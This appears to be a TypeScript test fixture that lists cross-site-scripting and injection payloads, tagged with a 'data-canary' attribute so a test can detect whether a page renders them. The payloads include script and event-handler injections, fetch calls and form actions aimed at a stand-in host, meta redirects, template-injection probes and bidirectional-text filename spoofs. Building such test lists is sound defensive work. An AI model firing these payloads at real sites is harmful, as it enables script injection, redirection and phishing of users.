/** Where a payload reports that it ran: nothing may ever be asked of it. */
export const CANARY = "canary.example";

const LEAK = `fetch("//${CANARY}/")`;

/**
 * What somebody types who wants a page to do something else than show it. Whatever a page makes of it carries `data-canary`.
 */
export const PAYLOADS = [
  `<script data-canary>${LEAK}</script>`,
  `<img data-canary src=//${CANARY}/x onerror=alert(1)>`,
  `<svg data-canary onload=alert(1)><animate data-canary onbegin=alert(1)></svg>`,
  `"><b data-canary onmouseover="alert(1)">quoted</b>`,
  `' autofocus data-canary onfocus='alert(1)`,
  `</textarea></title></style></script><i data-canary>`,
  `</pre></td></tr></table><marquee data-canary onstart=alert(1)>`,
  `<!--<a data-canary href="javascript:alert(1)">--!><u data-canary>`,
  `javascript:alert(document.domain)//`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<iframe data-canary srcdoc="&lt;script&gt;${LEAK}&lt;/script&gt;">`,
  `<style data-canary>@import "//${CANARY}/a.css";*{background:url(//${CANARY}/b)}</style>`,
  `<meta data-canary http-equiv=refresh content="0;url=//${CANARY}/">`,
  `<base data-canary href=//${CANARY}/><link data-canary rel=stylesheet href=//${CANARY}/c>`,
  `<form data-canary action=//${CANARY}/><button data-canary>Pay</button></form>`,
  `{{constructor.constructor("alert(1)")()}} \${alert(1)} <%= 7*7 %> #{7*7}`,
  `&lt;img data-canary src=x onerror=alert(1)&gt; &amp;quot; &#x3c;script&#x3e;`,
  `\u202Egnp.exe\u202C \u2066\u2067moc.elpmaxe\u2069 \u200F\u200B\uFEFF`,
  `Z${"\u0335\u0336\u0344\u0301".repeat(20)}algo 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 漢字 ﷽ ＜script＞`,
  "W".repeat(300),
];
